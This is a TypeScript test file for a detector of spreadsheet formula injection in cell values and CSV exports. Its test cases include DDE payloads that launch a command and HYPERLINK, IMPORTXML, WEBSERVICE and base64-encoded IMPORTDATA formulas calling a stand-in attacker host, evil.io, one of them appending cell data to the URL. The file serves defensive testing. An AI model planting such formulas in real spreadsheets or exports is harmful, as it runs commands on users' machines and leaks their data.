import { expect, test } from 'bun:test';
import { rulesOf } from '../../test/fixtures/looking.ts';
import { detector } from './generated-formula.ts';

const CASES: Readonly<Record<string, readonly string[]>> = {
  '=SUM(A1:A9)': ['formula'], "=cmd|'/c calc'!A1": ['dde'], '@SUM(1+1)*cmd|\' /c calc\'!A0': ['dde'], '=HYPERLINK("https://evil.io?x="&A1,"x")': ['external'],
  '=IMPORTXML("https://evil.io","//a")': ['external'], '+WEBSERVICE("https://evil.io")': ['external'], ' =   DDE("cmd";"/C calc")': ['dde'],
  '-12.5': [], '+1 202 555 0143': [], '=': [], '@ada': [], 'a = b': [], '- a list item': [], '-SUM is negative': [], '== heading ==': [],
};

test('a value is a formula where a sheet takes it for one, in a cell or in rows of cells', () => {
  for (const [value, rules] of Object.entries(CASES)) expect({ value, rules: rulesOf(detector, { value }) }).toEqual({ value, rules });
  expect(rulesOf(detector, { csv: `name,note\nada,=HYPERLINK("https://evil.io","x")\n` })).toEqual(['external']);
  expect(rulesOf(detector, { csv: 'name,change\nada,-12\nmiguel,+3\n' })).toEqual([]);
  expect(rulesOf(detector, { value: Buffer.from('=IMPORTDATA("https://evil.io/")').toString('base64') })).toEqual(['external']);
});
